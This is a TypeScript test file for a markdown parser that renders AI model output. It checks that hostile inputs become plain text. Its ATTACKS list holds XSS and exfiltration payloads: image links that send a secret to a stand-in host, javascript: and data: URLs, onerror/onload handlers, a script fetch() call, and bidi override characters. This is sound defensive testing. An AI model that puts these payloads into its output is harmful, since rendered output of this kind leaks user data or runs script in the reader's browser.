// What documents make a model say is shown as text: nothing of it is followed, loaded or run.
import { describe, expect, it } from "vitest";
import { parseMarkdown } from "../src/markdown";
import source from "../src/render.ts?raw";

const ATTACKS = [
  "![x](https://evil.example/leak?q=secret)",
  "![x][1]\n\n[1]: https://evil.example/leak?q=secret",
  "[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) <https://evil.example>",
  "<img src=x onerror=alert(1)><script>fetch('https://evil.example')</script>",
  "<a href=\"https://evil.example\">here</a> <iframe src=\"//evil.example\"></iframe>",
  "# <svg onload=alert(1)>\n> - ![y](//evil.example/y.png)\n\n```html\n<img src=https://evil.example>\n```",
  "**[bold](vbscript:x)** `![code](https://evil.example)`",
];

/** Every node of a tree, with all that it says. */
function nodes(tree: unknown): Record<string, unknown>[] {
  if (Array.isArray(tree)) return tree.flatMap(nodes);
  if (typeof tree !== "object" || tree === null) return [];
  return [tree as Record<string, unknown>, ...Object.values(tree).flatMap(nodes)];
}

describe("what documents make a model say", () => {
  it("becomes nothing but text and its emphasis", () => {
    const kinds = ["text", "break", "code", "strong", "emphasis", "paragraph", "heading", "quote", "rule", "list"];
    for (const attack of ATTACKS) {
      for (const node of nodes(parseMarkdown(attack).map(({ block }) => block))) {
        if ("kind" in node) expect(kinds, attack).toContain(node["kind"]);
        // No node has a place for an address.
        for (const key of Object.keys(node)) expect(["kind", "text", "children", "blocks", "items", "lists", "level", "start"], attack).toContain(key);
      }
    }
  });

  it("keeps its address in sight", () => {
    const [first] = parseMarkdown("![logo](https://evil.example/leak)");
    expect(JSON.stringify(first!.block)).toContain("logo (https://evil.example/leak)");
  });

  it("cannot be shown in another order", () => {
    const text = JSON.stringify(parseMarkdown("Pay \u202E0001\u202C to `\u2066x\u2069`\n\n```\n\u202Eabc\n```").map(({ block }) => block));
    expect(text).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    expect(text).toContain("0001");
  });

  it("is never given to the page as HTML, a link or an image", () => {
    for (const way of ["innerHTML", "outerHTML", "insertAdjacentHTML", 'el("a"', 'el("img"', "href", "src:"]) {
      expect(source, way).not.toContain(way);
    }
  });
});
